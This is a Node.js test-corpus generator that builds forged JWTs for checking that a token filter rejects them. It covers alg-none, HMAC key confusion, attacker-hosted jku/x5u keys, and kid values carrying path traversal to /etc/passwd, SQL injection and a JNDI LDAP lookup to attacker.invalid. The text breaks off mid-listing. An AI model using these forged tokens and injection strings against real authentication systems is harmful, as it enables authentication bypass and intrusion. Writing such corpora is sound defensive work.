// Writes tests/corpus/attacks.json: crafted tokens that the filter must reject, each with the
// reason code it must give, built against the fixture keys in tests/fixtures/keys.
//
// Usage: node tests/corpus/generate.mjs   (or `make corpus`). Node.js 20, built-in modules only.
//
// The corpus targets one provider that trusts idp-rs256-1 (RS256) and local-es256-1 (ES256)
// through `local_jwks`, with the fixed issuer and audience below; tests/corpus/corpus.rs builds
// that configuration. Every token expires in 2100, so the corpus does not age.
//
// The output is deterministic except for ECDSA signatures (random nonce) and RSA-PSS signatures
// (random salt).
//
// The expected reason follows the filter's check order: token size, compact JWS parse (base64url,
// strict JSON, `crit` and `b64`), `alg`, `kid` type, issuer, key selection, signature, time
// claims, audience, scope. A token that breaks two rules gets the reason of the earlier check.

import { createECDH, createHash, createHmac, createPrivateKey, createPublicKey, constants, sign, X509Certificate } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const HERE = dirname(fileURLToPath(import.meta.url));
const KEYS = join(HERE, '..', 'fixtures', 'keys');
const OUTPUT = join(HERE, 'attacks.json');

const ISSUER = 'https://corpus-idp.invalid/api/v2/iauths_system/oauth2';
const AUDIENCE = 'api://model-studio';
const REQUIRED_SCOPE = 'model.invoke';
const IDP_KID = 'idp-rs256-1';
const EC_KID = 'local-es256-1';
const OTHER_KID = 'other-rs256-1';
/// 2100-01-01T00:00:00Z.
const EXP_2100 = 4102444800;
/// 2023-11-14T22:13:20Z.
const IAT = 1700000000;
/// The filter's token size limit (src/extractor.rs MAX_TOKEN_BYTES).
const MAX_TOKEN_BYTES = 8192;
/// Order of the P-256 group.
const P256_ORDER = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n;
/// Host names under .invalid never resolve (RFC 2606); the filter never fetches them anyway.
const ATTACKER_JWKS_URL = 'https://attacker.invalid/.well-known/jwks.json';
const ATTACKER_CERT_URL = 'https://attacker.invalid/cert.pem';

// --- Keys ---

function readKeyFile(name) {
  return readFileSync(join(KEYS, name), 'utf8');
}

const idpPrivate = createPrivateKey(readKeyFile(`${IDP_KID}.key.pem`));
const ecPrivate = createPrivateKey(readKeyFile(`${EC_KID}.key.pem`));
const otherPrivate = createPrivateKey(readKeyFile(`${OTHER_KID}.key.pem`));
const idpPublicPem = readKeyFile(`${IDP_KID}.pub.pem`);
const ecPublicPem = readKeyFile(`${EC_KID}.pub.pem`);
const idpPublic = createPublicKey(idpPublicPem);
const ecPublic = createPublicKey(ecPublicPem);
const otherPublic = createPublicKey(readKeyFile(`${OTHER_KID}.pub.pem`));
const idpJwkText = readKeyFile(`${IDP_KID}.jwk.json`);
const ecJwkText = readKeyFile(`${EC_KID}.jwk.json`);
const idpJwk = JSON.parse(idpJwkText);
const ecJwk = JSON.parse(ecJwkText);
const otherJwk = JSON.parse(readKeyFile(`${OTHER_KID}.jwk.json`));

/// Derives a P-256 key that no configuration trusts from a fixed scalar, so the corpus stays
/// reproducible.
function attackerEcKey() {
  const scalar = createHash('sha256').update('idaas-jwt-filter attack corpus EC key').digest();
  const ecdh = createECDH('prime256v1');
  ecdh.setPrivateKey(scalar);
  const point = ecdh.getPublicKey();
  const jwk = {
    kty: 'EC',
    crv: 'P-256',
    x: b64u(point.subarray(1, 33)),
    y: b64u(point.subarray(33, 65)),
  };
  return { jwk, privateKey: createPrivateKey({ key: { ...jwk, d: b64u(scalar) }, format: 'jwk' }) };
}

const attackerEc = attackerEcKey();

// --- Encoding and signing ---

function b64u(bytes) {
  return Buffer.from(bytes).toString('base64url');
}

/// Encodes a JSON segment: strings are taken as raw JSON text (so duplicates and odd numbers
/// survive), anything else goes through JSON.stringify.
function segment(json) {
  return b64u(Buffer.from(typeof json === 'string' ? json : JSON.stringify(json), 'utf8'));
}

const signers = {
  rs256: (input) => sign('sha256', input, idpPrivate),
  rs384: (input) => sign('sha384', input, idpPrivate),
  rs512: (input) => sign('sha512', input, idpPrivate),
  ps256: (input) => sign('sha256', input, { key: idpPrivate, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 }),
  es256: (input) => sign('sha256', input, { key: ecPrivate, dsaEncoding: 'ieee-p1363' }),
  es256Der: (input) => sign('sha256', input, { key: ecPrivate, dsaEncoding: 'der' }),
  otherRs256: (input) => sign('sha256', input, otherPrivate),
  attackerEs256: (input) => sign('sha256', input, { key: attackerEc.privateKey, dsaEncoding: 'ieee-p1363' }),
  empty: () => Buffer.alloc(0),
};

/// Builds a compact JWS from a header, a payload and a signer over the signing input.
function jws(header, payload, signer) {
  const input = `${segment(header)}.${segment(payload)}`;
  return `${input}.${b64u(signer(Buffer.from(input, 'ascii')))}`;
}

function splitToken(token) {
  const parts = token.split('.');
  if (parts.length !== 3) throw new Error(`not three parts: ${token}`);
  return parts;
}

// --- Base token ---

function claims(overrides = {}) {
  const base = {
    iss: ISSUER,
    sub: 'ci-pipeline',
    aud: AUDIENCE,
    exp: EXP_2100,
    iat: IAT,
    jti: 'attack-corpus',
    scope: REQUIRED_SCOPE,
    client_id: 'ci-pipeline',
  };
  const merged = { ...base, ...overrides };
  for (const [name, value] of Object.entries(merged)) {
    if (value === undefined) delete merged[name];
  }
  return merged;
}

/// Serializes claims with one member replaced by raw JSON text, for values JSON.stringify
/// cannot produce (floats such as 4102444800.0, huge exponents, -0).
function claimsWithRawMember(name, rawValue) {
  const text = JSON.stringify(claims({ [name]: '__RAW__' }));
  return text.replace('"__RAW__"', rawValue);
}

function claimsWithoutMember(name) {
  return claims({ [name]: undefined });
}

const rsHeader = { alg: 'RS256', typ: 'at+jwt', kid: IDP_KID };
const esHeader = { alg: 'ES256', typ: 'at+jwt', kid: EC_KID };

const validRs256 = jws(rsHeader, claims(), signers.rs256);
const validEs256 = jws(esHeader, claims(), signers.es256);

// --- The corpus ---

const attacks = [];
const acceptedVariants = [];
const names = new Set();

function add(category, name, token, expectedReason, note) {
  const fullName = `${category}/${name}`;
  if (names.has(fullName)) throw new Error(`duplicate name ${fullName}`);
  names.add(fullName);
  const entry = { name: fullName, category, token, expected_reason: expectedReason };
  if (note) entry.note = note;
  attacks.push(entry);
}

// alg none in every case spelling, unsigned, with junk, and with a stripped valid signature.
function addAlgNone() {
  const spellings = [];
  for (let mask = 0; mask < 16; mask++) {
    spellings.push([...'none'].map((c, i) => ((mask >> i) & 1 ? c.toUpperCase() : c)).join(''));
  }
  for (const alg of spellings) {
    const header = { alg, typ: 'at+jwt', kid: IDP_KID };
    add('alg_none', `${alg}_empty_signature`, jws(header, claims(), signers.empty), 'alg_not_allowed');
    add('alg_none', `${alg}_junk_signature`, jws(header, claims(), () => Buffer.from('signature')), 'alg_not_allowed');
    add('alg_none', `${alg}_rs256_signature_of_same_input`, jws(header, claims(), signers.rs256), 'alg_not_allowed');
  }
  add('alg_none', 'none_without_kid', jws({ alg: 'none' }, claims(), signers.empty), 'alg_not_allowed');
  const [header, payload] = splitToken(jws({ alg: 'none' }, claims(), signers.empty));
  add('alg_none', 'none_two_parts_trailing_dot', `${header}.${payload}.`, 'alg_not_allowed');
}

// HS256/384/512 with the trusted public keys, in every common serialization, as the secret.
function addHmacKeyConfusion() {
  const rsaN = Buffer.from(idpJwk.n, 'base64url');
  const ecX = Buffer.from(ecJwk.x, 'base64url');
  const ecY = Buffer.from(ecJwk.y, 'base64url');
  const rsaForms = {
    pem_spki_file: idpPublicPem,
    pem_spki_trimmed: idpPublicPem.trim(),
    pem_pkcs1: idpPublic.export({ type: 'pkcs1', format: 'pem' }),
    der_spki: idpPublic.export({ type: 'spki', format: 'der' }),
    der_pkcs1: idpPublic.export({ type: 'pkcs1', format: 'der' }),
    jwk_file: idpJwkText,
    jwk_compact: JSON.stringify(idpJwk),
    jwk_thumbprint_input: JSON.stringify({ e: idpJwk.e, kty: 'RSA', n: idpJwk.n }),
    raw_modulus: rsaN,
    raw_modulus_base64url_text: idpJwk.n,
  };
  const ecForms = {
    pem_spki_file: ecPublicPem,
    pem_spki_trimmed: ecPublicPem.trim(),
    der_spki: ecPublic.export({ type: 'spki', format: 'der' }),
    jwk_file: ecJwkText,
    jwk_compact: JSON.stringify(ecJwk),
    jwk_thumbprint_input: JSON.stringify({ crv: 'P-256', kty: 'EC', x: ecJwk.x, y: ecJwk.y }),
    raw_uncompressed_point: Buffer.concat([Buffer.from([4]), ecX, ecY]),
    raw_x_y: Buffer.concat([ecX, ecY]),
    raw_x: ecX,
  };
  const hashes = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };
  for (const [alg, hash] of Object.entries(hashes)) {
    const hmacWith = (secret) => (input) => createHmac(hash, secret).update(input).digest();
    for (const [form, secret] of Object.entries(rsaForms)) {
      const header = { alg, typ: 'at+jwt', kid: IDP_KID };
      add('hmac_public_key', `${alg}_rsa_${form}`, jws(header, claims(), hmacWith(secret)), 'alg_not_allowed');
    }
    for (const [form, secret] of Object.entries(ecForms)) {
      const header = { alg, typ: 'at+jwt', kid: EC_KID };
      add('hmac_public_key', `${alg}_ec_${form}`, jws(header, claims(), hmacWith(secret)), 'alg_not_allowed');
    }
  }
}

/// Encodes one DER TLV.
function der(tag, content) {
  const body = Buffer.from(content);
  let length;
  if (body.length < 0x80) {
    length = Buffer.from([body.length]);
  } else {
    const bytes = [];
    for (let n = body.length; n > 0; n >>= 8) bytes.unshift(n & 0xff);
    length = Buffer.from([0x80 | bytes.length, ...bytes]);
  }
  return Buffer.concat([Buffer.from([tag]), length, body]);
}

function derOid(text) {
  const [first, second, ...rest] = text.split('.').map(Number);
  const bytes = [40 * first + second];
  for (const arc of rest) {
    const groups = [];
    for (let n = arc; ; n = Math.floor(n / 128)) {
      groups.unshift(n % 128);
      if (n < 128) break;
    }
    groups.forEach((group, i) => bytes.push(i < groups.length - 1 ? group | 0x80 : group));
  }
  return der(0x06, Buffer.from(bytes));
}

const derSequence = (...items) => der(0x30, Buffer.concat(items));

/// Builds a self-signed X.509 v3 certificate for the unpublished RSA key, as an attacker
/// would put it in `x5c`.
function attackerCertificate() {
  const sha256WithRsa = derSequence(derOid('1.2.840.113549.1.1.11'), der(0x05, []));
  const name = derSequence(der(0x31, derSequence(derOid('2.5.4.3'), der(0x0c, Buffer.from('attacker.invalid')))));
  const validity = derSequence(der(0x17, Buffer.from('250101000000Z')), der(0x17, Buffer.from('491231235959Z')));
  const tbs = derSequence(
    der(0xa0, der(0x02, [2])),
    der(0x02, [0x01, 0x23, 0x45, 0x67]),
    sha256WithRsa,
    name,
    validity,
    name,
    otherPublic.export({ type: 'spki', format: 'der' }),
  );
  const signature = sign('sha256', tbs, otherPrivate);
  const certificate = derSequence(tbs, sha256WithRsa, der(0x03, Buffer.concat([Buffer.from([0]), signature])));
  const parsed = new X509Certificate(certificate);
  if (!parsed.verify(otherPublic)) throw new Error('the attacker certificate does not verify');
  return certificate;
}

// Header members that carry or point at a key, naming a key the provider does not publish and
// signed by that key. The filter ignores them and selects keys only from its own set.
function addEmbeddedKeys() {
  const certificate = attackerCertificate();
  const otherJwkWithIdpKid = { ...otherJwk, kid: IDP_KID };
  const members = {
    jwk: { jwk: otherJwk },
    jwk_claiming_trusted_kid: { jwk: otherJwkWithIdpKid },
    jku: { jku: ATTACKER_JWKS_URL },
    x5u: { x5u: ATTACKER_CERT_URL },
    x5c: { x5c: [certificate.toString('base64')] },
    x5t_s256: { 'x5t#S256': b64u(createHash('sha256').update(certificate).digest()) },
    x5t: { x5t: b64u(createHash('sha1').update(certificate).digest()) },
    all_key_members: {
      jwk: otherJwk,
      jku: ATTACKER_JWKS_URL,
      x5u: ATTACKER_CERT_URL,
      x5c: [certificate.toString('base64')],
    },
  };
  for (const [label, extra] of Object.entries(members)) {
    const own = { alg: 'RS256', typ: 'at+jwt', kid: OTHER_KID, ...extra };
    add('embedded_key', `${label}_with_own_kid`, jws(own, claims(), signers.otherRs256), 'key_not_found',
      'the kid names the unpublished key, which the provider does not have');
    const trusted = { alg: 'RS256', typ: 'at+jwt', kid: IDP_KID, ...extra };
    add('embedded_key', `${label}_with_trusted_kid`, jws(trusted, claims(), signers.otherRs256), 'signature_invalid',
      'the trusted key is used, and the unpublished key signed');
    const noKid = { alg: 'RS256', typ: 'at+jwt', ...extra };
    add('embedded_key', `${label}_without_kid`, jws(noKid, claims(), signers.otherRs256), 'signature_invalid',
      'without kid the single RS256 key of the provider is used');
  }
  const ecMembers = {
    jwk: { jwk: attackerEc.jwk },
    jku: { jku: ATTACKER_JWKS_URL },
  };
  for (const [label, extra] of Object.entries(ecMembers)) {
    const trusted = { alg: 'ES256', typ: 'at+jwt', kid: EC_KID, ...extra };
    add('embedded_key', `es256_${label}_with_trusted_kid`, jws(trusted, claims(), signers.attackerEs256), 'signature_invalid');
    const noKid = { alg: 'ES256', typ: 'at+jwt', ...extra };
    add('embedded_key', `es256_${label}_without_kid`, jws(noKid, claims(), signers.attackerEs256), 'signature_invalid');
    const own = { alg: 'ES256', typ: 'at+jwt', kid: 'attacker-es256', ...extra };
    add('embedded_key', `es256_${label}_with_own_kid`, jws(own, claims(), signers.attackerEs256), 'key_not_found');
  }
}

// kid values an unsafe key store might turn into a file path or a query, signed by the trusted
// key: they must only fail the lookup.
function addKidInjection() {
  const lookups = {
    traversal_etc_passwd: '../../../../../../etc/passwd',
    traversal_dev_null: '/dev/null',
    traversal_proc_self_environ: '../../../../proc/self/environ',
    traversal_windows: '..\\..\\..\\windows\\win.ini',
    traversal_url_encoded: '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    traversal_into_trusted: `../${IDP_KID}`,
    traversal_dot_segment: `./${IDP_KID}`,
    traversal_suffix: `${IDP_KID}/../${IDP_KID}`,
    traversal_fixture_file: `tests/fixtures/keys/${IDP_KID}.key.pem`,
    sql_or_true: "' OR '1'='1",
    sql_comment: `${IDP_KID}' --`,
    sql_drop: "x'; DROP TABLE keys; --",
    sql_union: "' UNION SELECT 'secret' AS key --",
    sql_double_quote: '" OR ""="',
    sql_sleep: "1' AND SLEEP(5) --",
    nul_suffix: `${IDP_KID}\u0000`,
    nul_prefix: `\u0000${IDP_KID}`,
    nul_inside: 'idp\u0000-rs256-1',
    nul_only: '\u0000',
    nul_then_traversal: `${IDP_KID}\u0000../../etc/passwd`,
    empty: '',
    space_suffix: `${IDP_KID} `,
    space_prefix: ` ${IDP_KID}`,
    upper_case: IDP_KID.toUpperCase(),
    cyrillic_i: `\u0456dp-rs256-1`,
    fullwidth: 'ｉｄｐ-rs256-1',
    zero_width_space: `idp\u200b-rs256-1`,
    newline: `${IDP_KID}\n`,
    template: '${jndi:ldap://attacker.invalid/a}',
    long_5_kib: 'K'.repeat(5 * 1024),
  };
  for (const [label, kid] of Object.entries(lookups)) {
    const header = { alg: 'RS256', typ: 'at+jwt', kid };
    add('kid_injection', label, jws(header, claims(), signers.rs256), 'key_not_found');
  }
  for (const [label, kid] of Object.entries({
    '10_kib_ascii': 'A'.repeat(10 * 1024),
    '10_kib_traversal': '../'.repeat(3414),
    '10_kib_nul': '\u0000'.repeat(10 * 1024),
  })) {
    const header = { alg: 'RS256', typ: 'at+jwt', kid };
    add('kid_injection', label, jws(header, claims(), signers.rs256), 'token_malformed',
      'the token exceeds the 8 KiB limit before the kid is read');
  }
  for (const [label, kid] of Object.entries({ number: 1, null: null, array: [IDP_KID], object: { kid: IDP_KID }, bool: true })) {
    const header = { alg: 'RS256', typ: 'at+jwt', kid };
    add('kid_injection', `non_string_${label}`, jws(header, claims(), signers.rs256), 'token_malformed');
  }
  const rawNul = `{"alg":"RS256","typ":"at+jwt","kid":"${IDP_KID}\u0000"}`;
  add('kid_injection', 'raw_nul_byte_in_json', jws(rawNul, claims(), signers.rs256), 'token_malformed',
    'an unescaped control character is invalid JSON');
  add('kid_injection', 'ec_kid_with_rs256', jws({ alg: 'RS256', kid: EC_KID }, claims(), signers.rs256), 'key_not_found');
}

// crit lists with registered header and claim names, and with names no specification defines.
function addCrit() {
  const lists = {
    b64: ['b64'],
    exp: ['exp'],
    alg: ['alg'],
    kid: ['kid'],
    typ: ['typ'],
    iss: ['iss'],
    crit: ['crit'],
    empty_list: [],
    unknown: ['x-unknown'],
    unknown_uri: ['urn:example:jws-extension'],
    known_and_unknown: ['b64', 'x-unknown'],
    string_not_list: 'b64',
    null: null,
    number: 1,
    object: { b64: true },
  };
  for (const [label, crit] of Object.entries(lists)) {
    const header = { alg: 'RS256', typ: 'at+jwt', kid: IDP_KID, crit };
    if (Array.isArray(crit)) {
      for (const name of crit) if (!(name in header)) header[name] = name === 'b64' ? true : 'value';
    }
    add('crit', label, jws(header, claims(), signers.rs256), 'header_not_supported');
  }
  add('crit', 'with_alg_none', jws({ alg: 'none', crit: ['exp'], exp: EXP_2100 }, claims(), signers.empty), 'header_not_supported',
    'crit is checked while the header is parsed, before alg');
  add('crit', 'with_hs256', jws({ alg: 'HS256', crit: ['x-unknown'], 'x-unknown': 1 }, claims(), signers.empty), 'header_not_supported');
  const header = segment({ alg: 'RS256', kid: IDP_KID, crit: ['x-unknown'], 'x-unknown': 1 });
  add('crit', 'payload_not_base64url', `${header}.{"iss":"x"}.${b64u('s')}`, 'header_not_supported',
    'crit is checked before the payload is decoded');
}

// RFC 7797 unencoded payloads.
function addB64() {
  const b64False = { alg: 'RS256', typ: 'at+jwt', kid: IDP_KID, b64: false, crit: ['b64'] };
  const headerSegment = segment(b64False);
  const rawPayload = '{"sub":"ci-pipeline"}';
  const unencodedSignature = b64u(signers.rs256(Buffer.from(`${headerSegment}.${rawPayload}`)));
  add('b64', 'false_crit_unencoded_payload', `${headerSegment}.${rawPayload}.${unencodedSignature}`, 'header_not_supported');
  add('b64', 'false_crit_detached_payload', `${headerSegment}..${unencodedSignature}`, 'header_not_supported');
  add('b64', 'false_crit_encoded_payload', jws(b64False, claims(), signers.rs256), 'header_not_supported');
  const fullPayload = JSON.stringify(claims());
  const fullSignature = b64u(signers.rs256(Buffer.from(`${headerSegment}.${fullPayload}`)));
  add('b64', 'false_crit_unencoded_full_claims', `${headerSegment}.${fullPayload}.${fullSignature}`, 'token_malformed',
    'the issuer and audience contain dots, so the token splits into more than three parts');
  const variants = {
    false_without_crit: { b64: false },
    true_with_crit: { b64: true, crit: ['b64'] },
    true_without_crit: { b64: true },
    string_false: { b64: 'false' },
    number_zero: { b64: 0 },
    null: { b64: null },
  };
  for (const [label, extra] of Object.entries(variants)) {
    const header = { alg: 'RS256', typ: 'at+jwt', kid: IDP_KID, ...extra };
    add('b64', label, jws(header, claims(), signers.rs256), 'header_not_supported');
  }
  add('b64', 'false_with_alg_none', jws({ alg: 'none', b64: false }, claims(), signers.empty), 'header_not_supported');
}

/// Returns a valid RS256 token whose `part` (0 header, 1 payload, 2 signature) satisfies
/// `predicate`, varying `jti` (and, for the header, an unregistered `nonce` member that the
/// filter ignores) until it does, at most 2000 times.
function findValidToken(part, predicate) {
  for (let attempt = 0; attempt < 2000; attempt++) {
    // '~', '?' and '>' make base64url emit '-' and '_'; the prefix shifts their alignment.
    const variable = `${'x'.repeat(attempt % 3)}~~~?>${attempt}`;
    const header = part === 0 ? { ...rsHeader, nonce: variable } : rsHeader;
    const token = jws(header, claims({ jti: variable }), signers.rs256);
    if (predicate(splitToken(token)[part])) return token;
  }
  throw new Error(`no token found for part ${part}`);
}

function replacePart(token, part, text) {
  const parts = splitToken(token);
  parts[part] = text;
  return parts.join('.');
}

/// Sets unused low bits of the last base64url character, which a lenient decoder ignores.
function withTrailingBits(text) {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const unusedBits = { 2: 4, 3: 2 }[text.length % 4];
  if (!unusedBits) throw new Error('segment length has no unused bits');
  const last = alphabet.indexOf(text[text.length - 1]);
  return text.slice(0, -1) + alphabet[last | 1];
}

/// Appends or drops characters so that the length is 1 mod 4, which no base64 encodes.
function withLengthModFourOne(text) {
  const remainder = text.length % 4;
  return remainder === 0 ? `${text}A` : text.slice(0, text.length - remainder + 1);
}

// Encodings a lenient base64 decoder maps to the same bytes as a valid token.
function addBase64NonCanonical() {
  const partNames = ['header', 'payload', 'signature'];
  const withRemainder = (remainder) => (text) => text.length % 4 === remainder;
  for (const [index, partName] of partNames.entries()) {
    // A 256-byte RSA signature is always 342 characters, 2 more than a multiple of 4.
    const remainders = index === 2 ? [2] : [2, 3];
    for (const remainder of remainders) {
      const token = findValidToken(index, withRemainder(remainder));
      const text = splitToken(token)[index];
      const padding = '='.repeat(4 - remainder);
      add('base64_noncanonical', `${partName}_padded_length_mod_${remainder}`, replacePart(token, index, text + padding), 'token_malformed');
      add('base64_noncanonical', `${partName}_trailing_bits_length_mod_${remainder}`, replacePart(token, index, withTrailingBits(text)), 'token_malformed');
    }
    const urlSafe = findValidToken(index, (text) => /[-_]/.test(text));
    const standard = splitToken(urlSafe)[index].replace(/-/g, '+').replace(/_/g, '/');
    add('base64_noncanonical', `${partName}_standard_alphabet`, replacePart(urlSafe, index, standard), 'token_malformed');
    const text = splitToken(validRs256)[index];
    add('base64_noncanonical', `${partName}_extra_padding`, replacePart(validRs256, index, `${text}====`), 'token_malformed');
    add('base64_noncanonical', `${partName}_length_mod_4_is_1`, replacePart(validRs256, index, withLengthModFourOne(text)), 'token_malformed');
    add('base64_noncanonical', `${partName}_inner_space`, replacePart(validRs256, index, `${text.slice(0, 8)} ${text.slice(8)}`), 'token_malformed');
    add('base64_noncanonical', `${partName}_percent_encoded_padding`, replacePart(validRs256, index, `${text}%3D`), 'token_malformed');
  }
  const esSignature = splitToken(validEs256)[2];
  add('base64_noncanonical', 'es256_signature_trailing_bits', replacePart(validEs256, 2, withTrailingBits(esSignature)), 'token_malformed');
  add('base64_noncanonical', 'es256_signature_padded', replacePart(validEs256, 2, `${esSignature}==`), 'token_malformed');
}

// Objects with a member twice: a later duplicate must not silently win.
function addDuplicateMembers() {
  const claimsText = JSON.stringify(claims()).slice(1, -1);
  const headers = {
    header_alg_same_twice: `{"alg":"RS256","alg":"RS256","typ":"at+jwt","kid":"${IDP_KID}"}`,
    header_alg_rs256_then_none: `{"alg":"RS256","alg":"none","kid":"${IDP_KID}"}`,
    header_alg_none_then_rs256: `{"alg":"none","alg":"RS256","kid":"${IDP_KID}"}`,
    header_kid_twice: `{"alg":"RS256","kid":"${OTHER_KID}","kid":"${IDP_KID}"}`,
    header_typ_twice: `{"alg":"RS256","typ":"JWT","typ":"at+jwt","kid":"${IDP_KID}"}`,
    header_alg_escaped_duplicate: `{"alg":"RS256","\\u0061lg":"none","kid":"${IDP_KID}"}`,
    header_nested_in_jwk: `{"alg":"RS256","kid":"${IDP_KID}","jwk":{"kty":"RSA","kty":"oct"}}`,
    header_crit_twice: `{"alg":"RS256","kid":"${IDP_KID}","crit":["x"],"crit":[]}`,
  };
  for (const [label, header] of Object.entries(headers)) {
    add('duplicate_members', label, jws(header, claims(), signers.rs256), 'token_malformed');
  }
  const payloads = {
    payload_iss_attacker_then_trusted: `{"iss":"https://attacker.invalid",${claimsText}}`,
    payload_iss_trusted_then_attacker: `{${claimsText},"iss":"https://attacker.invalid"}`,
    payload_exp_twice: `{"exp":1,${claimsText}}`,
    payload_aud_twice: `{${claimsText},"aud":"api://other"}`,
    payload_scope_twice: `{"scope":"",${claimsText}}`,
    payload_sub_twice: `{${claimsText},"sub":"admin"}`,
    payload_escaped_iss_duplicate: `{${claimsText},"\\u0069ss":"https://attacker.invalid"}`,
    payload_nested_duplicate: `{${claimsText},"ext":{"role":"user","role":"admin"}}`,
    payload_duplicate_in_array_object: `{${claimsText},"ext":[{"a":1,"a":2}]}`,
  };
  for (const [label, payload] of Object.entries(payloads)) {
    add('duplicate_members', label, jws(rsHeader, payload, signers.rs256), 'token_malformed');
  }
  add('duplicate_members', 'es256_payload_scope_twice', jws(esHeader, `{${claimsText},"scope":"admin"}`, signers.es256), 'token_malformed');
}

// NumericDate claims that are not plain non-negative integers, signed by the trusted key.
function addNumericClaims() {
  const raw = (name, value, reason, note) => [name, value, reason, note];
  const cases = {
    exp_string: raw('exp', `"${EXP_2100}"`, 'claim_invalid'),
    exp_empty_string: raw('exp', '""', 'claim_invalid'),
    exp_float_point_zero: raw('exp', `${EXP_2100}.0`, 'claim_invalid'),
    exp_float_fraction: raw('exp', `${EXP_2100}.5`, 'claim_invalid'),
    exp_exponent_form: raw('exp', '4.1024448e9', 'claim_invalid'),
    exp_integer_with_exponent: raw('exp', '41024448E2', 'claim_invalid'),
    exp_zero_exponent: raw('exp', `${EXP_2100}e0`, 'claim_invalid'),
    exp_1e308: raw('exp', '1e308', 'claim_invalid'),
    exp_1e400: raw('exp', '1e400', 'token_malformed', 'serde_json rejects a number that overflows f64'),
    exp_minus_1e400: raw('exp', '-1e400', 'token_malformed', 'serde_json rejects a number that overflows f64'),
    exp_400_digits: raw('exp', '9'.repeat(400), 'token_malformed', 'serde_json rejects a number that overflows f64'),
    exp_25_digits: raw('exp', '1'.repeat(25), 'claim_invalid'),
    exp_negative_one: raw('exp', '-1', 'claim_invalid'),
    exp_negative_far_future: raw('exp', `-${EXP_2100}`, 'claim_invalid'),
    exp_negative_zero: raw('exp', '-0', 'claim_invalid', 'serde_json reads -0 as the float -0.0'),
    exp_two_pow_53_plus_1: raw('exp', '9007199254740993', 'claim_invalid'),
    exp_u64_max: raw('exp', '18446744073709551615', 'claim_invalid'),
    exp_u64_max_plus_1: raw('exp', '18446744073709551616', 'claim_invalid'),
    exp_i64_min: raw('exp', '-9223372036854775808', 'claim_invalid'),
    exp_null: raw('exp', 'null', 'claim_invalid'),
    exp_true: raw('exp', 'true', 'claim_invalid'),
    exp_array: raw('exp', `[${EXP_2100}]`, 'claim_invalid'),
    exp_object: raw('exp', `{"$numberLong":"${EXP_2100}"}`, 'claim_invalid'),
    exp_hex: raw('exp', '0xF48656FE', 'token_malformed'),
    exp_leading_zero: raw('exp', `0${EXP_2100}`, 'token_malformed'),
    exp_leading_plus: raw('exp', `+${EXP_2100}`, 'token_malformed'),
    exp_nan: raw('exp', 'NaN', 'token_malformed'),
    exp_infinity: raw('exp', 'Infinity', 'token_malformed'),
    exp_zero: raw('exp', '0', 'token_expired'),
    exp_in_2023: raw('exp', '1700000600', 'token_expired'),
    nbf_string: raw('nbf', '"0"', 'claim_invalid'),
    nbf_float: raw('nbf', '1.5', 'claim_invalid'),
    nbf_negative: raw('nbf', '-1', 'claim_invalid'),
    nbf_in_2100: raw('nbf', `${EXP_2100 - 1}`, 'token_not_yet_valid'),
    iat_string: raw('iat', `"${IAT}"`, 'claim_invalid'),
    iat_exponent_form: raw('iat', '1.7e9', 'claim_invalid'),
    iat_negative: raw('iat', '-1', 'claim_invalid'),
    iat_in_2100: raw('iat', `${EXP_2100 - 1}`, 'token_not_yet_valid'),
  };
  for (const [label, [name, value, reason, note]] of Object.entries(cases)) {
    add('numeric_claims', label, jws(rsHeader, claimsWithRawMember(name, value), signers.rs256), reason, note);
  }
  add('numeric_claims', 'exp_missing', jws(rsHeader, claimsWithoutMember('exp'), signers.rs256), 'token_expired');
  add('numeric_claims', 'es256_exp_string', jws(esHeader, claimsWithRawMember('exp', `"${EXP_2100}"`), signers.es256), 'claim_invalid');
}

function addAudienceTypes() {
  const cases = {
    number: [1, 'claim_invalid'],
    float: [1.5, 'claim_invalid'],
    bool: [true, 'claim_invalid'],
    null: [null, 'claim_invalid'],
    object: [{ aud: AUDIENCE }, 'claim_invalid'],
    empty_object: [{}, 'claim_invalid'],
    nested_array: [[[AUDIENCE]], 'claim_invalid'],
    nested_array_deeper: [[[[AUDIENCE]]], 'claim_invalid'],
    array_with_number: [[AUDIENCE, 1], 'claim_invalid'],
    array_with_null: [[AUDIENCE, null], 'claim_invalid'],
    array_with_object: [[{ aud: AUDIENCE }], 'claim_invalid'],
    empty_array: [[], 'audience_not_allowed'],
    empty_string: ['', 'audience_not_allowed'],
    upper_case: [AUDIENCE.toUpperCase(), 'audience_not_allowed'],
    trailing_space: [`${AUDIENCE} `, 'audience_not_allowed'],
    trailing_slash: [`${AUDIENCE}/`, 'audience_not_allowed'],
    space_delimited_string: [`api://other ${AUDIENCE}`, 'audience_not_allowed'],
    other_audience_array: [['api://other'], 'audience_not_allowed'],
    prefix_of_audience: ['api://model', 'audience_not_allowed'],
  };
  for (const [label, [aud, reason]] of Object.entries(cases)) {
    add('aud_type', label, jws(rsHeader, claims({ aud }), signers.rs256), reason);
  }
  add('aud_type', 'missing', jws(rsHeader, claimsWithoutMember('aud'), signers.rs256), 'audience_not_allowed');
}

function addScopeTypes() {
  const cases = {
    number: [{ scope: 1 }, 'claim_invalid'],
    zero: [{ scope: 0 }, 'claim_invalid'],
    bool: [{ scope: true }, 'claim_invalid'],
    null: [{ scope: null }, 'claim_invalid'],
    object: [{ scope: { [REQUIRED_SCOPE]: true } }, 'claim_invalid'],
    array_of_number: [{ scope: [1] }, 'claim_invalid'],
    array_of_null: [{ scope: [null] }, 'claim_invalid'],
    array_of_bool: [{ scope: [true] }, 'claim_invalid'],
    array_of_array: [{ scope: [[REQUIRED_SCOPE]] }, 'claim_invalid'],
    array_of_object: [{ scope: [{ scope: REQUIRED_SCOPE }] }, 'claim_invalid'],
    array_mixed: [{ scope: [REQUIRED_SCOPE, 1] }, 'claim_invalid'],
    array_with_empty_string: [{ scope: [REQUIRED_SCOPE, ''] }, 'claim_invalid'],
    array_with_space_in_entry: [{ scope: [`${REQUIRED_SCOPE} admin`] }, 'claim_invalid'],
    scp_number_beside_valid_scope: [{ scp: 1 }, 'claim_invalid'],
    scp_array_of_number_beside_valid_scope: [{ scp: [1] }, 'claim_invalid'],
    empty_string: [{ scope: '' }, 'scope_empty'],
    blank_string: [{ scope: '   \t ' }, 'scope_empty'],
